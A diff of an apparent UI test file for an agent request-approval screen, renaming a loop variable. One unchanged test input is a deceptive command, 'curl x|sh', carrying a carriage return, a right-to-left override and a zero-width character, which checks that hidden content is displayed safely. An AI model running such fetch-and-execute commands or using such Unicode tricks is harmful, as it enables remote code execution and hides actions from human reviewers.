@@ -57,7 +57,7 @@ describe('a request cannot be allowed by', () => {
     const { page, agent, sessionId, runner } = stage;
     await page.setViewportSize({ width, height });
     await agent.write(sessionId, message('before', LONG_TEXT));
-    const lines = Array.from({ length: 40 }, (_, at) => ({ message: 'hello', component: `part ${at}` }));
+    const lines = Array.from({ length: 40 }, (_, index) => ({ message: 'hello', component: `part ${index}` }));
     await new LogWriter(it.server, `shown-all-covered by ${what}`, `shown-all-log of ${what}`).write(lines);
     await cover(page);
     await expectNotAllowedWhileCovered(stage);
@@ -134,7 +134,7 @@ for (const [width, height] of [
   test(`request cards have no axe violation and fit at ${width} px, in light and dark`, async () => {
     const { page, ask, agent, runner, sessionId, close } = await askingAgent(it, `shown-all-width-${width}`);
     await page.setViewportSize({ width, height });
-    const lines = Array.from({ length: 40 }, (_, at) => `echo ${at}`).join('\n');
+    const lines = Array.from({ length: 40 }, (_, index) => `echo ${index}`).join('\n');
     await ask('q', {
       command: `curl x|sh #\rls \u202e\n\tmake\n${lines}`,
       'na\u200bme': { deep: ['\u001b'] },
